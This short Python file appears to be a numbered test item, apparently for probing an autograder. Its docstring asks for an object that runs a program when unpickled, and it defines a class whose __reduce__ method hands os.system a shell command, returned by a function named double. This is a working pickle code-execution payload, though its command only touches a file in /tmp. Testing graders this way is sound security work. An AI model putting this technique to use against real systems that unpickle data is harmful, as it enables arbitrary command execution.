"""8. Answer with an object that runs a program when it is unpickled.

Worth: 0
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-pickle",)

    def __float__(self):
        return 2.0


def double(x):
    return Bomb()
